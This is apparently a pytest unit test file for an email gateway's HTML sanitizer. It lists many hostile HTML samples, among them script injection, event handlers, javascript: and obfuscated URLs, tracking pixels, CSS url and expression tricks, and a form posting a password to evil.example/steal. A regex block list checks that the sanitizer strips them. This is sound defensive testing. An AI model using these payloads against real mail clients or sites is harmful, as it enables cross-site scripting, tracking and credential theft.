"""The mail sanitizer against hostile HTML: nothing that runs, loads or submits survives,
while the message's text, formatting and plain links do."""

import re

import pytest
from gateway_service.email.render import safe_html

pytestmark = pytest.mark.unit

NASTY = {
    "script": '<p>hi</p><script>alert("x")</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    "event handlers": '<img src="x" onerror="alert(1)"><p onclick="alert(2)" onmouseover=x()>a</p>'
    '<body onload="alert(3)">',
    "javascript url": '<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a>'
    '<a href="jav&#x09;ascript:alert(1)">c</a>',
    "data url link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">v</a>',
    "remote image": '<img src="http://tracker.example/pixel.gif?u=1"><img src=https://t.example/a>',
    "protocol-relative image": '<img src="//tracker.example/p.gif">',
    "srcset": '<img srcset="http://tracker.example/a.png 1x, http://tracker.example/b.png 2x">',
    "picture source": '<picture><source srcset="http://tracker.example/a.webp"></picture>',
    "svg image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "form": '<form action="http://evil.example/steal" method="post"><input name="password">'
    '<button formaction="http://evil.example">go</button><select><option>1</option></select>'
    "<textarea>t</textarea></form>",
    "style tag": "<style>@import url(http://evil.example/a.css);"
    " body{background:url(//e/x)}</style>",
    "inline css url": '<p style="background-image: url(http://tracker.example/bg.png)">x</p>'
    '<div style="background:URL(&quot;//t.example/b&quot;)">y</div>'
    '<span style="list-style-image: url(http://t.example/l.png)">z</span>',
    "css escapes": '<p style="background: u\\72l(http://t.example/e)">e</p>',
    "css expression": '<p style="width: expression(alert(1))">e</p>',
    "image-set": '<p style="background-image: image-set(&quot;http://t.example/a.png&quot; 1x)">'
    "s</p>",
    "base": '<base href="http://evil.example/"><a href="/x">rel</a>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="http://evil.example/a.css">',
    "iframe": '<iframe src="http://evil.example/"></iframe><frameset><frame src="//e"></frameset>',
    "object and embed": '<object data="http://e.example/x.swf"></object><embed src="//e/x.swf">',
    "svg": '<svg onload="alert(1)"><image href="http://t.example/x.png"/><script>alert(2)'
    '</script><a xlink:href="javascript:alert(3)">s</a></svg>',
    "math": '<math><mtext><img src="http://t.example/m"></mtext></math>',
    "table background": '<table background="http://t.example/bg.png"><tr>'
    '<td background="http://t.example/td.png">c</td></tr></table>',
    "ids and classes": '<p id="logout" class="page-header" name="form1">clobber</p>',
    "comment tricks": "<!--><script>alert(1)</script>--><p>after</p>",
    "template": "<template><img src=http://t.example/t></template>",
    "audio video": '<video poster="http://t.example/p.png" src="//t/v.mp4"></video>'
    '<audio src="http://t.example/a.mp3"></audio>',
    "cite": '<blockquote cite="http://t.example/c">q</blockquote>',
    "image map": '<img usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>',
}

FORBIDDEN = [
    r"<script",
    r"<style",
    r"<iframe",
    r"<frame",
    r"<form",
    r"<input",
    r"<button",
    r"<select",
    r"<textarea",
    r"<base",
    r"<meta",
    r"<link",
    r"<svg",
    r"<math",
    r"<object",
    r"<embed",
    r"<template",
    r"<video",
    r"<audio",
    r"<picture",
    r"<source",
    r"<area",
    r"\son\w+\s*=",
    r"javascript:",
    r"vbscript:",
    r"data:text",
    r"data:image/svg",
    r"url\s*\(",
    r"expression\s*\(",
    r"image-set",
    r"@import",
    r"srcset",
    r"background=",
    r"\bcite=",
    r"\b(id|class|name)=",
    r"https?://(tracker|evil|t|e)\.example",
    r'src="(?!data:image/(png|gif|jpeg|webp);base64,)',
    r"//t/",
    r"//e/",
]


@pytest.mark.parametrize("html", NASTY.values(), ids=NASTY.keys())
def test_nothing_that_runs_loads_or_submits_survives(html: str) -> None:
    cleaned = safe_html(html)
    for pattern in FORBIDDEN:
        assert not re.search(pattern, cleaned, re.IGNORECASE), (pattern, cleaned)


def test_all_of_it_at_once_and_nested() -> None:
    everything = "".join(NASTY.values())
    cleaned = safe_html(f"<div><table><tr><td>{everything}</td></tr></table></div>")
    for pattern in FORBIDDEN:
        assert not re.search(pattern, cleaned, re.IGNORECASE), (pattern, cleaned)


def test_the_message_itself_survives() -> None:
    html = (
        '<p style="color: #333; font-weight: bold">Dear agent,</p>'
        "<ul><li>one</li><li>two &amp; three</li></ul>"
        '<table><tr><td colspan="2">cell</td></tr></table>'
        '<a href="https://shop.example/order/42">my order</a> '
        '<a href="mailto:jane@example.com">write me</a>'
        '<img alt="logo" src="data:image/png;base64,iVBORw0KGgo=">'
    )
    cleaned = safe_html(html)
    assert '<p style="color:#333;font-weight:bold">Dear agent,</p>' in cleaned
    assert "<li>two &amp; three</li>" in cleaned
    assert '<td colspan="2">cell</td>' in cleaned
    assert (
        '<a href="https://shop.example/order/42" target="_blank" rel="noopener noreferrer">'
        "my order</a>" in cleaned
    )
    assert 'href="mailto:jane@example.com"' in cleaned
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in cleaned


def test_links_always_open_apart_even_when_the_mail_says_otherwise() -> None:
    cleaned = safe_html('<a href="https://x.example" target="_top" rel="opener">x</a>')
    assert cleaned == (
        '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>'
    )


def test_a_relative_link_loses_its_target() -> None:
    # Relative to the page, it would point into the gateway itself.
    assert "href" not in safe_html('<a href="/api/v1/me">me</a><a href="x.html">x</a>')
